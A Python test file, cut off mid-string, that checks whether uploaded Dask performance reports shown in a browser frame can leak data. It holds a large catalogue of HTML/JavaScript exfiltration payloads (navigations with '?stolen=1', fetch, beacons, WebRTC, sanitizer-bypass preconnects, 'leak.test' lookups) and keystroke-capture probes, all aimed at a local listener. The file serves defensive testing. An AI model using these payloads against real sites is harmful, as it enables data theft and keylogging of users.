"""Performance reports in a real browser: no content can escape the frame, and Dask's plots are
drawn.

Each escape is tried by a separate report. Its target is a listener on this machine: a connection or
a packet there is a failure. A page without policies tries the same escapes first, which shows that
the listener would notice them.

The threat model names one exception: when a frame navigates itself, or a link in it is clicked,
Chromium opens a connection before it checks any policy, and closes it without sending data.
"""

import contextlib
import http.server
import json
import re
import socket
import ssl
import subprocess
import threading
import time
import urllib.request
from pathlib import Path

import pytest
import trustme
from processes import (
    GalvoServer,
    Processes,
    clean_environment,
    free_port,
    python_named,
    wait_until,
)
from tabs import Browser

PASSWORD = "correct horse battery staple"

RAN = "<script>parent.postMessage('ran', '*')</script>"

# A text with a preconnect, a sanitizer that lets it pass, and an element of the document.
SANITIZED = (
    "const text = \"<link rel=preconnect href='http://{tcp}'>\";"
    "const options = {{sanitizer: {{elements: ['html', 'head', 'body', "
    "{{name: 'link', attributes: ['rel', 'href']}}]}}}};"
    "const place = document.documentElement.appendChild(document.createElement('div'));"
)

# In each, {tcp} is the listener as `127.0.0.1:port`, {udp} the packet listener, and {name} a value
# unique to the escape. Each escape is a report's content; it acts by itself, or on a click if it
# contains `click`.
BY_ITSELF = {
    "location": "<script>location = 'http://{tcp}/{name}?stolen=1'</script>",
    "location of the top": (
        "<script>try {{ top.location = 'http://{tcp}/{name}' }} catch {{}}</script>"
    ),
    "location of the parent": (
        "<script>try {{ parent.location.replace('http://{tcp}/{name}') }} catch {{}}</script>"
    ),
    "navigation": "<script>navigation.navigate('http://{tcp}/{name}')</script>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://{tcp}/{name}'>",
    "meta refresh that a script makes": (
        "<script>const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
        "m.content = '0;url=http://{tcp}/{name}'; document.head.append(m)</script>"
    ),
    "link": "<a id=a href='http://{tcp}/{name}'>x</a><script>a.click()</script>",
    "link to the top": (
        "<a id=a target=_top href='http://{tcp}/{name}'>x</a><script>a.click()</script>"
    ),
    "link to a new window": (
        "<a id=a target=_blank href='http://{tcp}/{name}'>x</a><script>a.click()</script>"
    ),
    "link that pings": (
        "<a id=a ping='http://{tcp}/{name}' href='#x'>x</a><script>a.click()</script>"
    ),
    "base": (
        "<base href='http://{tcp}/{name}/' target=_top><a id=a href=y>x</a><img src=z>"
        "<script>a.click()</script>"
    ),
    "form": (
        "<form id=f action='http://{tcp}/{name}'><input name=password value=x></form>"
        "<script>f.submit()</script>"
    ),
    "form to the top": (
        "<form id=f target=_top method=post action='http://{tcp}/{name}'></form>"
        "<script>f.requestSubmit()</script>"
    ),
    "download": (
        "<a id=a download=x.html href='http://{tcp}/{name}'>x</a><script>a.click()</script>"
    ),
    "download of its own": (
        "<a id=a download=x.html href='data:text/html,{name}'>x</a><script>a.click();"
        "a.href = URL.createObjectURL(new Blob(['{name}'])); a.click()</script>"
    ),
    "window": (
        "<script>for (const to of ['_blank', '_top', '_parent', 'x', '_self'])"
        "  try {{ window.open('http://{tcp}/{name}', to) }} catch {{}}</script>"
    ),
    "window of its own": (
        "<script>const w = window.open(); if (w) w.location = 'http://{tcp}/{name}'</script>"
    ),
    "pushState": (
        "<script>for (const to of ['/sign-in', '/', location.origin + '/sign-in', '?x'])"
        "  for (const state of ['pushState', 'replaceState'])"
        "    try {{ history[state](0, '', to) }} catch {{}}</script>"
    ),
    "history": (
        "<script>try {{ history.pushState(0, '', '#x') }} catch {{}}; location.hash = 'y';"
        "let n = 0; setInterval(() => {{ if (n++ < 20) {{ history.back(); history.go(-3) }} }}, 20)"
        "</script>"
    ),
    "reload": "<script>if (!name) {{ name = 'x'; location.reload() }}</script>",
    "pages of this server": (
        "<script>for (const to of ['/sign-in', '/graphql', '/']) location = "
        "new URL(to, document.referrer || location.href)</script>"
    ),
    "data as a document": (
        "<script>location = 'data:text/html,<script>fetch(`http://{tcp}/{name}`)</scr' + 'ipt>'"
        "</script>"
    ),
    "blob as a document": (
        "<script>location = URL.createObjectURL(new Blob(['<script>fetch(`http://{tcp}/{name}`)"
        "</scr' + 'ipt>'], {{type: 'text/html'}}))</script>"
    ),
    "script as an address": (
        "<script>location = \"javascript:fetch('http://{tcp}/{name}')\"</script>"
    ),
    "mail": "<script>location = 'mailto:x@{name}.leak.test?body=stolen'</script>",
    "fetch": (
        "<script>fetch('http://{tcp}/{name}', {{mode: 'no-cors'}}).catch(() => 0);"
        "fetch('http://{tcp}/{name}', {{mode: 'no-cors', keepalive: true}}).catch(() => 0)</script>"
    ),
    "request": (
        "<script>try {{ const x = new XMLHttpRequest(); x.open('GET', 'http://{tcp}/{name}');"
        "x.send() }} catch {{}}</script>"
    ),
    "beacon": "<script>navigator.sendBeacon('http://{tcp}/{name}', 'x')</script>",
    "socket": "<script>try {{ new WebSocket('ws://{tcp}/{name}') }} catch {{}}</script>",
    "events": "<script>try {{ new EventSource('http://{tcp}/{name}') }} catch {{}}</script>",
    "image": (
        "<img src='http://{tcp}/{name}'><script>new Image().src = 'http://{tcp}/{name}'</script>"
        "<svg><image href='http://{tcp}/{name}'/></svg><input type=image src='http://{tcp}/{name}'>"
    ),
    "picture": "<picture><source srcset='http://{tcp}/{name} 1x'><img></picture>",
    "media": (
        "<video autoplay poster='http://{tcp}/{name}' src='http://{tcp}/{name}'></video>"
        "<audio autoplay src='http://{tcp}/{name}'></audio>"
        "<video><track default src='http://{tcp}/{name}'></video>"
    ),
    "style": (
        "<link rel=stylesheet href='http://{tcp}/{name}'><style>@import 'http://{tcp}/{name}';"
        "@font-face {{ font-family: f; src: url('http://{tcp}/{name}') }}"
        "body {{ font-family: f; background: url('http://{tcp}/{name}');"
        "cursor: url('http://{tcp}/{name}'), auto }}</style>x"
    ),
    "style of a script": (
        "<script>const s = document.createElement('style');"
        "s.textContent = \"body {{ background: url('http://{tcp}/{name}') }}\";"
        "document.head.append(s); new FontFace('g', 'url(http://{tcp}/{name})').load()"
        ".catch(() => 0)</script>"
    ),
    "script": (
        "<script src='http://{tcp}/{name}'></script><script>const s ="
        "document.createElement('script'); try {{ s.src = 'http://{tcp}/{name}' }} catch {{}};"
        "document.head.append(s); import('http://{tcp}/{name}').catch(() => 0)</script>"
        "<script type=module src='http://{tcp}/{name}'></script>"
    ),
    "frame": (
        "<iframe src='http://{tcp}/{name}'></iframe><frameset><frame src='http://{tcp}/{name}'>"
        "</frameset><script>const f = document.createElement('iframe');"
        "f.src = 'http://{tcp}/{name}'; document.documentElement.append(f)</script>"
    ),
    "frame in a frame": (
        "<script>const f = document.createElement('iframe'); f.srcdoc = "
        "\"<img src='http://{tcp}/{name}'><script>location='http://{tcp}/{name}'</scr\" + \"ipt>\";"
        "document.documentElement.append(f)</script>"
    ),
    "object": ("<object data='http://{tcp}/{name}'></object><embed src='http://{tcp}/{name}'>"),
    "worker": (
        "<script>try {{ new Worker(URL.createObjectURL(new Blob([\"fetch('http://{tcp}/{name}')\"])"
        ")) }} catch {{}}; try {{ new SharedWorker(\"data:text/javascript,fetch('http://{tcp}/"
        "{name}')\") }} catch {{}}</script>"
    ),
    "service worker": (
        "<script>try {{ navigator.serviceWorker?.register('/assets/x.js')"
        ".catch(() => 0) }} catch {{}}</script>"
    ),
    "prefetch": (
        "<link rel=prefetch href='http://{tcp}/{name}'><link rel=preload as=image "
        "href='http://{tcp}/{name}'><link rel=prerender href='http://{tcp}/{name}'>"
        "<link rel=modulepreload href='http://{tcp}/{name}'><link rel=icon href='http://{tcp}/{name}'>"
        "<link rel=manifest href='http://{tcp}/{name}'>"
    ),
    "speculation rules": (
        '<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": '
        '["http://{tcp}/{name}"]}}], "prerender": [{{"source": "list", "urls": '
        "[\"http://{tcp}/{name}\"]}}]}}</script><script>const s = document.createElement('script');"
        "s.type = 'speculationrules'; try {{ s.textContent = JSON.stringify({{prefetch: [{{source: "
        "'list', urls: ['http://{tcp}/{name}']}}]}}) }} catch {{}};"
        "document.head.append(s)</script>"
    ),
    "preconnect": "<link rel=preconnect href='http://{tcp}/{name}'>",
    "preconnect that a script makes": (
        "<script>const l = document.createElement('link'); l.rel = 'preconnect';"
        "l.href = 'http://{tcp}'; document.head.append(l);"
        "const n = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:link');"
        "n.setAttribute('rel', 'preconnect'); n.setAttribute('href', 'http://{tcp}');"
        "document.head.append(n)</script>"
    ),
    "preconnect with several colons in its name": (
        "<script>const {{ implementation }} = document, xhtml = 'http://www.w3.org/1999/xhtml';"
        "for (const name of ['h:link:x', 'h:link:', 'link:link:x', 'h:LINK:x'])"
        "  for (const way of [() => document.createElementNS(xhtml, name),"
        "() => new Document().createElementNS(xhtml, name),"
        "() => implementation.createDocument(xhtml, name).documentElement]) try {{"
        "    const l = way(); l.setAttribute('rel', 'preconnect');"
        "    l.setAttribute('href', 'http://{tcp}'); document.head.append(l) }} catch {{}}</script>"
    ),
    "preconnect that a text makes": (
        "<script>const t = \"<link rel=preconnect href='http://{tcp}'>\";"
        "for (const way of [() => {{ document.body.innerHTML += t }},"
        "() => document.body.insertAdjacentHTML('beforeend', t), () => document.write(t),"
        "() => document.body.append(document.createRange().createContextualFragment(t)),"
        "() => document.body.append(document.adoptNode(new DOMParser()"
        ".parseFromString(t, 'text/html').head.firstChild)),"
        "() => document.body.append(document.adoptNode(new DOMParser().parseFromString("
        "\"<!DOCTYPE x [<!ENTITY e \\\"&#60;h:link xmlns:h='http://www.w3.org/1999/xhtml' "
        "rel='preconnect' href='http://{tcp}'/>\\\">]><x>&e;</x>\", 'text/xml').documentElement)),"
        "() => document.body.setHTMLUnsafe(t)]) try {{ way() }} catch {{}}</script>"
    ),
    "preconnect behind a sign of a text": (
        "<script>for (const sign of ['<', '<1', '<=', '</<', '<<<a']) {{"
        "const t = `${{sign}}<link rel=preconnect href='http://{tcp}'>`;"
        "for (const way of [() => {{ document.body.innerHTML += t }}, () => document.write(t),"
        "() => document.body.insertAdjacentHTML('beforeend', t)]) try {{ way() }} catch {{}} }}"
        "</script>"
    ),
    "preconnect of a template": (
        "<template id=t><link rel=preconnect href='http://{tcp}'></template>"
        "<script>document.head.append(t.content.cloneNode(true))</script>"
    ),
    "preconnect of a class": (
        "<script>try {{ class L extends HTMLLinkElement {{}}; customElements.define('l-l', L, "
        "{{extends: 'link'}}); const l = new L(); l.rel = 'preconnect'; l.href = 'http://{tcp}';"
        "document.head.append(l) }} catch {{}}</script>"
    ),
    "preconnect of a document": (
        "<script>const {{ implementation }} = document, xhtml = 'http://www.w3.org/1999/xhtml';"
        "for (const name of ['link', 'h:link', {{toString: () => 'link'}}]) {{"
        "const l = implementation.createDocument(xhtml, name).documentElement;"
        "l.setAttribute('rel', 'preconnect'); l.setAttribute('href', 'http://{tcp}');"
        "for (const way of [() => document.head.append(document.adoptNode(l.cloneNode(true))),"
        "() => document.head.append(document.importNode(l, true)), () => document.head.append(l)])"
        "  try {{ way() }} catch {{}} }}</script>"
    ),
    "elements of a document": (
        "<p>x</p><script>const xhtml = 'http://www.w3.org/1999/xhtml';"
        "for (const [name, attributes] of [['iframe', {{src: 'http://{tcp}/{name}'}}],"
        "['object', {{data: 'http://{tcp}/{name}'}}], ['embed', {{src: 'http://{tcp}/{name}'}}],"
        "['meta', {{'http-equiv': 'refresh', content: '0;url=http://{tcp}/{name}'}}],"
        "['base', {{href: 'http://{tcp}/{name}/'}}], ['link', {{rel: 'dns-prefetch', "
        "href: '//{name}.leak.test'}}]]) {{"
        "const e = document.implementation.createDocument(xhtml, name).documentElement;"
        "for (const key in attributes) e.setAttribute(key, attributes[key]);"
        "document.body.append(document.adoptNode(e)) }}</script>"
    ),
    "preconnect of pieces of a text": (
        "<script>onload = () => {{ document.open();"
        "for (const piece of ['<', 'li', 'nk rel=preconnect ', \"href='http://{tcp}'>\"])"
        "  document.write(piece); document.close() }}</script>"
    ),
    "preconnect by setHTML": f"<script>{SANITIZED} place.setHTML(text, options)</script>",
    "preconnect by setHTML of a shadow root": (
        f"<script>{SANITIZED} place.attachShadow({{{{mode: 'open'}}}})"
        ".setHTML(text, options)</script>"
    ),
    "preconnect by setHTMLUnsafe with a Sanitizer": (
        f"<script>{SANITIZED} place.setHTMLUnsafe(text, "
        "{{sanitizer: new Sanitizer(options.sanitizer)}})</script>"
    ),
    "preconnect by parseHTML": (
        f"<script>{SANITIZED} place.append(document.adoptNode("
        "Document.parseHTML(text, options).querySelector('link')))</script>"
    ),
    "preconnect by parseHTMLUnsafe": (
        f"<script>{SANITIZED} place.append(document.adoptNode("
        "Document.parseHTMLUnsafe(text, options).querySelector('link')))</script>"
    ),
    "preconnect by the parser of a frame": (
        f"<script>{SANITIZED} const frame = document.createElement('iframe'); place.append(frame);"
        "place.append(document.adoptNode("
        "frame.contentWindow.Document.parseHTML(text, options).querySelector('link')))</script>"
    ),
    "preconnect in a frame": (
        '<iframe srcdoc="<body><script>'
        + SANITIZED.replace('"', "&quot;")
        + ' place.setHTML(text, options)</script>"></iframe>'
    ),
    "names": (
        "<link rel=dns-prefetch href='//{name}.leak.test'><a href='http://{name}.leak.test'>x</a>"
        "<script>const l = document.createElement('link'); l.rel = 'dns-prefetch';"
        "l.href = '//script-{name}.leak.test'; document.head.append(l)</script>"
    ),
    "WebRTC": (
        "<script>try {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{udp}'}}, "
        "{{urls: 'turn:{tcp}?transport=tcp', username: 'x', credential: 'x'}}]}});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
        " }} catch {{}}</script>"
    ),
    "WebRTC of a frame": (
        '<iframe srcdoc="<script>const p = new RTCPeerConnection({{iceServers: [{{urls: '
        "'stun:{udp}'}}]}}); p.createDataChannel('x'); p.createOffer().then(o => "
        'p.setLocalDescription(o))</script>"></iframe><script>try {{'
        "const f = document.createElement('iframe'); document.body.append(f);"
        "const p = new f.contentWindow.RTCPeerConnection({{iceServers: [{{urls: 'stun:{udp}'}}]}});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
        " }} catch {{}}</script>"
    ),
    "WebTransport": (
        "<script>try {{ new WebTransport('https://{udp}/{name}').ready.catch(() => 0) }} catch {{}}"
        "</script>"
    ),
    "messages": (
        "<script>for (const to of [parent, top]) {{ to.postMessage({{type: 'x'}}, '*');"
        "try {{ to.name = 'x'; to.document.title = 'x' }} catch {{}} }}"
        "try {{ new BroadcastChannel('x').postMessage('x') }} catch {{}}</script>"
    ),
    "policies of its own": (
        '<meta http-equiv=Content-Security-Policy content="default-src *">'
        "<script>try {{ trustedTypes.createPolicy('default', {{createHTML: x => x}}) }} catch {{}};"
        "try {{ trustedTypes.createPolicy('mine', {{createHTML: x => x}}) }} catch {{}};"
        "document.body.innerHTML = \"<link rel=preconnect href='http://{tcp}'>\"</script>"
    ),
}

WHOLE = "style='position:fixed;inset:0;display:block;background:#eee'"

AT_A_CLICK = {
    "link": f"<a {WHOLE} href='http://{{tcp}}/{{name}}'>x</a>",
    "link to the top": f"<a {WHOLE} target=_top href='http://{{tcp}}/{{name}}'>x</a>",
    "link to a new window": f"<a {WHOLE} target=_blank href='http://{{tcp}}/{{name}}'>x</a>",
    "link that pings": f"<a {WHOLE} ping='http://{{tcp}}/{{name}}' href='#x'>x</a>",
    "download": f"<a {WHOLE} download=x.html href='data:text/html,x'>x</a>",
    "location of the top": (
        f"<div {WHOLE} id=d>x</div><script>d.addEventListener('click', () => {{{{"
        "try {{ top.location = 'http://{tcp}/{name}' }} catch {{}};"
        "window.open('http://{tcp}/{name}'); history.back() }})</script>"
    ),
    "form": (
        f"<form target=_top action='http://{{tcp}}/{{name}}'><button {WHOLE}>x</button></form>"
    ),
}


class Listener:
    """The target of escapes: it records connections, data and packets."""

    def __init__(self):
        self.connections = 0
        self.received = []
        self._tcp = socket.create_server(("127.0.0.1", 0), backlog=128)
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.tcp = f"127.0.0.1:{self._tcp.getsockname()[1]}"
        self.udp = f"127.0.0.1:{self._udp.getsockname()[1]}"
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                self.connections += 1
                threading.Thread(target=self._answer, args=[connection], daemon=True).start()

    def _answer(self, connection):
        with contextlib.suppress(OSError), connection:
            connection.settimeout(5)
            head = connection.recv(4096).decode(errors="replace")
            if head:
                self.received.append(head.split("\r\n")[0])
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def _receive(self):
        with contextlib.suppress(OSError):
            while True:
                packet, _ = self._udp.recvfrom(4096)
                self.received.append(f"a packet of {len(packet)} bytes")

    def close(self):
        # A thread that waits in `accept` would not notice the close.
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()
        self._udp.close()


class Site:
    """A server, a browser that is signed in there, and a way to store reports."""

    def __init__(self, directory, port=0, settings=None, arguments=()):
        self.processes = Processes(directory)
        self.galvo = GalvoServer(self.processes, settings=settings)
        self.galvo.port = port
        self.own = "GALVO_REPORTS_URL" in (settings or {})
        self.galvo.start()
        command = [*self.galvo.process.popen.args[:1], "user", "password", "admin"]
        environment = {**clean_environment(), "GALVO_DATABASE_URL": self.galvo.database_url}
        subprocess.run(
            command, input=PASSWORD + "\n", env=environment, check=True, text=True, timeout=60
        )
        self.browser = Browser(directory / "browser", *arguments)
        try:
            self._sign_in()
        except BaseException:
            self.close()
            raise

    def _sign_in(self):
        self.tab = self.browser.tab()
        self.tab.open(f"{self.galvo.address}/sign-in")
        self.tab.run(
            f"const f = document.forms[0]; f.username.value = 'admin'; f.password.value = "
            f"{json.dumps(PASSWORD)}; f.submit()"
        )
        home = f"{self.galvo.address}/"
        wait_until(lambda: self.tab.address() == home, "the browser is signed in")

    def store(self, name, page):
        """Stores a report like the published client, and returns its page's address."""
        body = (
            '--b\r\nContent-Disposition: form-data; name="file"; filename="'
            f'{name}.html"\r\n\r\n{page}\r\n--b--\r\n'
        )
        request = urllib.request.Request(
            f"{self.galvo.address}/api/v1/default/performance_reports/public/",
            data=body.encode(),
            headers={
                "Authorization": f"Bearer {self.galvo.token}",
                "Content-Type": "multipart/form-data; boundary=b",
            },
            method="POST",
        )
        with urllib.request.urlopen(request, timeout=60) as answer:
            return json.load(answer)["url"]

    def show(self, name, page):
        """Shows a report whose script runs, and returns the address of its page."""
        address = self.store(name, page)
        self.tab.open(address)
        return address

    def try_out(self, name, page, way):
        """Shows a report whose script sends a message, and returns the address of its page."""
        address = self.show(name, page)
        wait_until(lambda: "ran" in self.tab.messages(), f"{way} is tried")
        return address

    def click_report(self, button="left", modifiers=0):
        box = self.tab.run(
            "(r => [r.x + r.width / 2, r.y + 40])"
            "(document.querySelector('iframe').getBoundingClientRect())"
        )
        self.tab.click(*box, button, modifiers)

    def close(self):
        network = self.browser.close()
        self.processes.kill_all()
        return network


@pytest.fixture
def listener():
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture(scope="module", params=["own origin", "origin of its own"])
def site(request, tmp_path_factory):
    port, settings = 0, {}
    if request.param != "own origin":
        # Both names lead to the same server, which distinguishes them.
        port = free_port()
        settings = {
            "GALVO_PUBLIC_URL": f"http://127.0.0.1:{port}",
            "GALVO_REPORTS_URL": f"http://reports.localhost:{port}",
        }
    site = Site(tmp_path_factory.mktemp("site"), port, settings)
    yield site
    network = site.close()
    # A name that is only resolved, as for a prefetch, is logged as well.
    assert f"{site.galvo.port}" in network, "the browser writes down what it does"
    assert re.findall(r"[\w.-]*leak\.test", network) == []


@pytest.fixture(scope="module")
def bare(tmp_path_factory):
    """The same browser with pages without any policies."""
    pages = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            page = pages.get(self.path, "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    browser = Browser(tmp_path_factory.mktemp("bare"))
    tab = browser.tab()

    def show(name, page):
        pages[f"/{name}"] = page
        tab.call("Page.navigate", url=f"http://127.0.0.1:{server.server_port}/{name}")

    yield show
    browser.close()
    server.shutdown()
    server.server_close()


def written(page, listener, name):
    return f"<!doctype html>{page}".format(tcp=listener.tcp, udp=listener.udp, name=name)


# Escapes that do not work without policies either, or do not reach the listener.
NOT_RECEIVED = {
    "base",  # its target is the page itself
    "blob as a document",
    "data as a document",
    "download of its own",
    "history",
    "link to a new window",  # a browser requires a click
    "mail",
    "messages",
    "names",  # the browser's log shows these
    "navigation",
    "object",
    "pages of this server",
    "picture",
    "policies of its own",
    "preconnect of a class",
    "pushState",
    "reload",
    "script as an address",
    "service worker",
    "speculation rules",
    "WebTransport",
    "window",
    "window of its own",
}


@pytest.mark.parametrize("way", [way for way in BY_ITSELF if way not in NOT_RECEIVED])
def test_the_listener_receives_what_a_page_without_policies_sends(bare, listener, way):
    name = re.sub(r"\W", "-", way)
    bare(name, written(BY_ITSELF[way], listener, name))
    wait_until(
        lambda: listener.received or (way in CONNECTS and listener.connections),
        f"{way} reaches the listener",
        20,
    )


# Escapes that count without sending data.
CONNECTS = {way for way in BY_ITSELF if way.startswith("preconnect")}

# Escapes by which the frame navigates itself.
NAVIGATES = {
    "location",
    "navigation",
    "meta refresh",
    "meta refresh that a script makes",
    "link",
    "base",
    "download",
    "form",
    "window",
}


def assert_nothing_left(site, listener, address, way, connects=False):
    assert listener.received == [], way
    assert connects or listener.connections == 0, way
    assert site.tab.address() == address, way
    (page,) = site.browser.pages()
    assert page["url"] == address, way
    assert list(site.browser.downloads.iterdir()) == [], way
    # The page is the server's own, without foreign content.
    assert site.tab.run("location.href") == address, way
    assert site.tab.run("document.querySelector('h1').textContent").endswith(".html"), way


@pytest.mark.parametrize("way", BY_ITSELF)
def test_nothing_leads_out_of_a_report_by_itself(site, listener, way):
    name = re.sub(r"\W", "-", way)
    address = site.try_out(name, written(RAN + BY_ITSELF[way], listener, name), way)
    time.sleep(1)
    assert_nothing_left(site, listener, address, way, connects=way in NAVIGATES)


@pytest.mark.parametrize("way", AT_A_CLICK)
def test_nothing_leads_out_of_a_report_at_a_click(site, listener, way):
    name = re.sub(r"\W", "-", way)
    messenger = (
        "<script>addEventListener('click', () => parent.postMessage('clicked', '*'), true)</script>"
    )
    address = site.try_out(name, written(RAN + messenger + AT_A_CLICK[way], listener, name), way)
    time.sleep(0.5)
    site.click_report()
    wait_until(lambda: "clicked" in site.tab.messages(), f"{way} is clicked")
    time.sleep(1)
    assert_nothing_left(site, listener, address, way, connects="<a " in AT_A_CLICK[way])


def test_a_report_does_not_load_itself_again(site, listener):
    content = (
        "<script>for (const way of [() => location.reload(), () => {{ location = location.href }},"
        "() => location.replace(location.href)]) setTimeout(way, 200)</script>"
    )
    address = site.try_out("again", written(RAN + content, listener, "again"), "again")
    time.sleep(2)
    # On an origin of its own, it does until its address expires.
    assert site.own or site.tab.messages().count("ran") == 1
    assert_nothing_left(site, listener, address, "again")


# Gestures on a link that open its address elsewhere or save it: the mouse's button, and the sum of
# the keys Alt (1), Control (2), Meta (4) and Shift (8).
GESTURES = {
    "Control": ("left", 2),
    "Shift": ("left", 8),
    "Control and Shift": ("left", 10),
    "Alt": ("left", 1),
    "Meta": ("left", 4),
    "the middle button": ("middle", 0),
}

LINK = f"<a id=a {WHOLE} href='http://{{tcp}}/{{name}}?stolen=1'>x</a>"


@pytest.mark.parametrize("gesture", GESTURES)
def test_no_gesture_opens_or_saves_the_address_of_a_link(site, listener, gesture):
    name = re.sub(r"\W", "-", gesture)
    address = site.try_out(name, written(RAN + LINK, listener, name), gesture)
    time.sleep(0.5)
    site.click_report(*GESTURES[gesture])
    time.sleep(1)
    assert_nothing_left(site, listener, address, gesture, connects=True)


def test_no_key_opens_the_address_of_a_link(site, listener):
    content = RAN + LINK + "<script>a.focus()</script>"
    address = site.try_out("enter", written(content, listener, "enter"), "enter")
    # The reader uses the report, so that keys go there.
    site.click_report("right")
    for modifiers in (2, 10, 1):
        site.tab.press("Enter", text="\r", modifiers=modifiers)
    time.sleep(1)
    assert_nothing_left(site, listener, address, "enter", connects=True)


def test_a_report_has_no_menu_of_the_browser(site, listener):
    messenger = (
        "<script>document.addEventListener('contextmenu', e => parent.postMessage('menu', '*'));"
        "addEventListener('pointerup', e => parent.postMessage('pressed', '*'))</script>"
    )
    address = site.try_out("menu", written(RAN + messenger + LINK, listener, "menu"), "menu")
    time.sleep(0.5)
    site.click_report("right")
    wait_until(lambda: "pressed" in site.tab.messages(), "the button is pressed")
    time.sleep(0.5)
    # The server's script prevents the menu before the report sees the event.
    assert "menu" not in site.tab.messages()
    assert_nothing_left(site, listener, address, "menu", connects=True)


TYPED = {
    "input": "<input id=e style='{whole}'>",
    "password": "<input type=password id=e style='{whole}'>",
    "area": "<textarea id=e style='{whole}'></textarea>",
    "editable": "<div id=e contenteditable style='{whole}'></div>",
    "style": "<div id=e tabindex=0 style='-webkit-user-modify: read-write;{whole}'></div>",
    "editable that takes the selection back": (
        "<div id=e contenteditable style='{whole}'></div><script>new MutationObserver(() => {{"
        "e.focus(); getSelection().selectAllChildren(e) }})"
        ".observe(document, {{childList: true, subtree: true}});"
        "for (const type of ['blur', 'focusout', 'selectionchange'])"
        "  document.addEventListener(type, () => {{ e.focus();"
        "    if (!getSelection().rangeCount) getSelection().selectAllChildren(e) }}, true)</script>"
    ),
    "editable element of its own": (
        "<e-e id=e contenteditable style='display:block;{whole}'></e-e><script>"
        "customElements.define('e-e', class extends HTMLElement {{ connectedCallback() {{"
        "this.focus(); getSelection().selectAllChildren(this) }} }})</script>"
    ),
    "editable in a shadow": (
        "<div id=e style='{whole}'></div><script>{{ const root = e.attachShadow("
        "{{mode: 'closed'}});"
        "root.innerHTML = '<p contenteditable style=\"{whole}\">'; const p = root.firstChild;"
        "setInterval(() => {{ p.focus();"
        "parent.postMessage(`has ${{p.textContent}}`, '*') }}, 40) }}</script>"
    ),
    "design": "<div id=e style='{whole}'></div><script>document.designMode = 'on'</script>",
    "choice": (
        "<select id=e size=9 style='{whole}'>"
        "<option>-<option>hunter<option>unter<option>nter</select>"
    ),
    "choice with a window": (
        "<select id=e style='field-sizing:content'>"
        "<option>-<option>hunter<option>unter<option>nter</select>"
    ),
    "suggestions": ("<input id=e list=l style='{whole}'><datalist id=l><option>hunter2</datalist>"),
    "context": (
        "<div id=e tabindex=0 style='{whole}'></div><script>if (window.EditContext) {{"
        "const context = e.editContext = new EditContext(); for (const type of ['textupdate',"
        "'compositionstart', 'characterboundsupdate']) context.addEventListener(type, event =>"
        "parent.postMessage(`saw ${{event.text || type}}`, '*')) }}</script>"
    ),
    "nothing": "<div id=e style='{whole}'></div>",
}
REPORT_INPUT = (
    "<script>const e = document.getElementById('e') ?? document.body.appendChild("
    "document.createElement('p')); e.tabIndex = 0; e.focus(); const first = e.selectedIndex;"
    "const send = text => parent.postMessage(text, '*');"
    "for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change',"
    "  'compositionstart', 'compositionupdate', 'compositionend', 'textInput']) {{"
    "  for (const target of [window, document, e])"
    "    target.addEventListener(type, event => send(`saw ${{event.key || type}}`), true);"
    "  window[`on${{type}}`] = () => send(`saw ${{type}}`) }}"
    "try {{ new PerformanceObserver(list => list.getEntries().forEach(({{name}}) =>"
    "  send(`timed ${{name}}`))).observe({{type: 'event', durationThreshold: 16}}) }} catch {{}};"
    "setInterval(() => send(`has ${{e.value || e.textContent.trim()}}"
    "${{e.selectedIndex === first ? '' : e.selectedIndex}}, "
    "wide ${{e.getBoundingClientRect().width}}, "
    "after ${{performance.eventCounts?.get('keydown')}} keys`), 50)</script>"
)


@pytest.mark.parametrize("way", TYPED)
def test_nothing_can_be_typed_into_a_report(site, listener, way):
    place = TYPED[way].replace("{whole}", "position:fixed;inset:0;width:100%;height:100%")
    address = site.try_out(f"typed-{way}", written(RAN + place + REPORT_INPUT, listener, way), way)
    site.click_report()
    time.sleep(0.5)
    before = set(site.tab.messages())
    for key in "hunter2 é":
        site.tab.press(key)
        time.sleep(0.06)
    # Text without keys: of a panel of the system, and of an input method, which shows it before it
    # is chosen.
    site.tab.call("Input.insertText", text="inserted")
    site.tab.call("Input.imeSetComposition", text="composed", selectionStart=8, selectionEnd=8)
    time.sleep(0.2)
    site.tab.call("Input.insertText", text="chosen")
    time.sleep(0.5)
    assert set(site.tab.messages()) == before
    assert_nothing_left(site, listener, address, way)


def assert_message_sent(site, listener, name, script, expected):
    """Shows a report whose script sends one message, and expects this one."""
    address = site.try_out(name, written(RAN + script, listener, name), name)
    messages = wait_until(
        lambda: [text for text in site.tab.messages() if text != "ran"],
        f"the message of {name} arrives",
    )
    assert messages == [expected]
    assert_nothing_left(site, listener, address, name)


# Interfaces and members that reveal keys or text, or remove the listeners that handle them first.
REVEALING = (
    "<script>const left = []; for (const [where, names] of [[window, ['EditContext', 'EyeDropper',"
    "'IdleDetector', 'PerformanceEventTiming', 'PerformanceObserver', 'RemotePlayback',"
    "'UserActivation', 'XRSystem']],"
    "[navigator, ['scheduling', 'userActivation', 'vibrate', 'xr']],"
    "[performance, ['eventCounts', 'getEntries', 'getEntriesByName',"
    " 'getEntriesByType', 'interactionCount']],"
    "[document, ['open', 'write', 'writeln']], [document.body, ['editContext']],"
    "[document.createElement('video'), ['remote']], [new MessageEvent('x'), ['userActivation']]])"
    "  for (const name of names) if (name in where) left.push(name);"
